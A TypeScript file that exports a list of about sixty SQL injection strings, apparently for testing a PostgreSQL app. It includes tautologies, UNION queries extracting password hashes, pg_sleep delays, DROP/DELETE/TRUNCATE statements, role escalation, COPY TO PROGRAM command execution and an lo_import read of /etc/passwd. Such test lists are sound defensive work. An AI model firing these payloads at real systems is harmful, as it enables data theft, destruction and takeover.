/** Sixty texts that change a statement of SQL, or make it slow, where they are put into its text. */
export const SQL_TEXTS: readonly string[] = [
  ...["'", '"', '\\', "''", "';", "\\'", '`', "'--", "'/*", '*/', '--', '#', ';'],
  ...["' OR '1'='1", "' OR 1=1--", '" OR ""="', "') OR ('1'='1", "')) OR (('1'='1", "' OR TRUE LIMIT 1--"],
  ...['1 OR 1=1', '1) OR (1=1', '0 OR TRUE', '-1', '1e309', '0x41', "1'::int", 'NaN', 'null'],
  ...["' AND 1=0 UNION SELECT NULL--", "' UNION SELECT NULL, NULL, NULL--", "' UNION ALL SELECT 1--"],
  `' UNION SELECT "passwordHash" FROM "User"--`,
  `' UNION SELECT table_name FROM information_schema.tables--`,
  ...["'; SELECT pg_sleep(5)--", "' || pg_sleep(5)--", "' AND 1=(SELECT 1 FROM pg_sleep(5))--"],
  ...['1; SELECT pg_sleep(5)', "'||(SELECT pg_sleep(5))||'", "') OR pg_sleep(5) IS NULL--"],
  ...[`'; DROP TABLE "User"--`, `'; DELETE FROM "Session"--`, `'; UPDATE "User" SET "role"='ADMIN'--`],
  ...[`'; TRUNCATE "Document" CASCADE--`, `'; COPY "User" TO PROGRAM 'id'--`, "'; CREATE ROLE x SUPERUSER--"],
  ...["' AND 1=CAST(version() AS int)--", "' AND (SELECT current_user)='postgres'--"],
  ...["'||current_setting('is_superuser')||'", "'||chr(65)||'", "' AND lo_import('/etc/passwd')>0--"],
  ...['$$; SELECT 1; $$', "$1' OR $2", ':name OR 1=1', '? OR 1=1', "E'\\\\x27 OR 1=1--"],
  ...['%', '_%', '%27%20OR%201=1', 'ʼ OR 1=1', '＇ OR 1=1', "a' OR 'a' LIKE '%", "' ORDER BY 99--"],
]
